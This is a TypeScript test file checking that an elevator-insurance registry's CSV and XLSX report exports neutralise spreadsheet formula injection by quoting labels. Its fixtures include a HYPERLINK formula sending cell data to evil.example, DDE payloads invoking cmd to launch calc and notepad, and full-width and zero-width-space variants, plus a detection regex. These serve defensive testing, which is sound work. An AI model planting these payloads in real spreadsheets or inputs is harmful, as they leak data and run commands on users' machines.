import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { InfluxHttpStore } from '../../influx/http-store.js';
import { openSqliteStore } from '../../store/sqlite.js';
import type { Store } from '../../store/types.js';
import { buildTestApi } from '../helpers/api.js';
import { tempDir, uniqueDatabase } from '../helpers/fixtures.js';
import { readXlsx } from '../helpers/xlsx.js';

/**
 * Registry labels that a spreadsheet program would run as formulas if a report printed them as
 * they are: OWASP's =, +, -, @ (DDE and HYPERLINK payloads among them), their full-width forms,
 * which East Asian input methods and spreadsheet programs may turn into the ASCII ones, and a
 * formula behind an invisible zero-width space. Leading spaces never reach the registry (labels are
 * trimmed) and neither do tabs or CRs (control characters are refused).
 */
const PAYLOADS = {
  district: '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  useUnit: "@SUM(1+1)*cmd|' /C calc'!A0",
  insurer: "+cmd|' /C calc'!A0",
  contractor: "-2+3+cmd|' /C notepad'!A0",
  otherContractor: '＝1+1',
  otherUseUnit: '＋1+1',
  otherInsurer: '－1+1',
  otherDistrict: '＠SUM(1,1)',
  hiddenContractor: '\u200B=1+1',
} as const;
/** Elevator ids may begin with `-`: `-A1` is a formula in a spreadsheet. */
const ELEVATORS = ['-A1', '-1', 'CQ-SAFE'] as const;

const ADMIN = 'admin-key-of-the-formula-injection-test';
const admin = { authorization: `Bearer ${ADMIN}` };
let store: Store;
let app: FastifyInstance;

const csvCell = (text: string | number) =>
  /[",\r\n]/.test(String(text)) ? `"${String(text).replaceAll('"', '""')}"` : String(text);
const csvOf = (rows: ReadonlyArray<ReadonlyArray<string | number>>) =>
  rows.map((row) => row.map(csvCell).join(',')).join('\r\n');

async function importCsv(url: string, rows: ReadonlyArray<ReadonlyArray<string | number>>) {
  const response = await app.inject({
    method: 'POST',
    url,
    headers: { ...admin, 'content-type': 'text/csv' },
    payload: csvOf(rows),
  });
  expect(response.statusCode, response.body).toBe(200);
  expect(response.json().rejected).toEqual([]);
}

beforeAll(async () => {
  store = openSqliteStore(tempDir());
  const telemetry = new InfluxHttpStore({ url: inject('influxUrl'), db: uniqueDatabase() });
  await telemetry.ensureDatabase();
  app = await buildTestApi(store, ADMIN, { telemetry });
  await importCsv('/api/elevators/import', [
    ['id', 'district', 'useUnit', 'insurer', 'contractor', 'installedOn', 'residentsServed'],
    [ELEVATORS[0], p.district, p.useUnit, p.insurer, p.contractor, '2010-05-01', 120],
    [ELEVATORS[1], p.otherDistrict, p.otherUseUnit, p.otherInsurer, p.otherContractor, '2015-05-01', 80],
    [ELEVATORS[2], '渝中区', 'UU-A', 'INS-PICC', p.hiddenContractor, '2018-05-01', 60],
  ]);
  await importCsv('/api/policies/import', [
    ['elevator', 'insurer', 'from', 'to', 'premiumYuan', 'premiumSource'],
    [ELEVATORS[0], p.insurer, '2026-01-01', '2026-12-31', 1500, 'self-funded'],
    [ELEVATORS[1], p.otherInsurer, '2026-01-01', '2026-12-31', 900.5, 'government'],
    [ELEVATORS[2], 'INS-PICC', '2026-01-01', '2026-12-31', 1200, 'donation'],
  ]);
});
afterAll(async () => {
  await app.close();
  store.close();
});

const download = async (url: string) => {
  const response = await app.inject({ url, headers: admin });
  expect(response.statusCode, response.body).toBe(200);
  return response;
};

/**
 * What a spreadsheet program may read as a formula: OWASP's first characters, after any leading
 * whitespace or invisible formatting characters, in ASCII or full width; or a leading tab or CR.
 */
const FORMULA_START = /^(?:[\t\r]|[\s\p{Cf}]*[=+\-@＝＋－＠])/u;
/** Labels as the reports must print them: behind a single quote. */
const quoted = (...labels: string[]) => labels.map((label) => `'${label}`);
const p = PAYLOADS;
/** The labels Attachment 2 prints (each elevator's district, use unit, insurer and id). */
const IN_ATTACHMENT_2 = [
  p.district,
  p.otherDistrict,
  p.useUnit,
  p.otherUseUnit,
  p.insurer,
  p.otherInsurer,
  ELEVATORS[0],
  ELEVATORS[1],
];

/** Every text cell that begins like a formula must be a number: a negative number stays one. */
function expectNoFormulaText(cells: readonly string[]) {
  const live = cells.filter((cell) => FORMULA_START.test(cell) && !Number.isFinite(Number(cell)));
  expect(live).toEqual([]);
}

describe('labels that look like formulas', () => {
  const csvCells = (text: string) => (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();

  it('come out of the pilot report CSV behind a single quote, both tables', async () => {
    const table = async (which: string) =>
      csvCells((await download(`/api/reports/pilot?year=2026&format=csv&table=${which}`)).body);
    const summary = await table('1');
    expectNoFormulaText(summary);
    expect(summary).toEqual(expect.arrayContaining(quoted(PAYLOADS.district, PAYLOADS.otherDistrict)));
    const elevators = await table('2');
    expectNoFormulaText(elevators);
    expect(elevators).toEqual(expect.arrayContaining(quoted(...IN_ATTACHMENT_2)));
  });

  it('come out of the pilot report XLSX as text behind a single quote, never as a formula', async () => {
    const workbook = await readXlsx((await download('/api/reports/pilot?year=2026&format=xlsx')).rawPayload);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined)).toEqual([]);
    expect(cells.every((cell) => typeof cell.value === 'string' || typeof cell.value === 'number')).toBe(true);
    const texts = cells.flatMap((cell) => (typeof cell.value === 'string' ? [cell.value] : []));
    expectNoFormulaText(texts);
    expect(texts).toEqual(expect.arrayContaining(quoted(...IN_ATTACHMENT_2)));
  });

  it('come out of the contractor league CSV and XLSX behind a single quote', async () => {
    const contractors = [PAYLOADS.contractor, PAYLOADS.otherContractor, PAYLOADS.hiddenContractor];
    const csv = csvCells((await download('/api/contractors/scores?format=csv')).body);
    expectNoFormulaText(csv);
    expect(csv).toEqual(expect.arrayContaining(quoted(...contractors)));

    const response = await download('/api/contractors/scores?format=xlsx');
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = await readXlsx(response.rawPayload);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const texts = cells.flatMap((cell) => (typeof cell.value === 'string' ? [cell.value] : []));
    expectNoFormulaText(texts);
    expect(texts).toEqual(expect.arrayContaining(quoted(...contractors)));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Number).length).toBeGreaterThan(0);
  });

  it('stay as they are in JSON, which no spreadsheet reads', async () => {
    const report = (await download('/api/reports/pilot?year=2026')).json();
    expect(report.elevators.map((row: { useUnit: string }) => row.useUnit)).toContain(PAYLOADS.useUnit);
  });
});
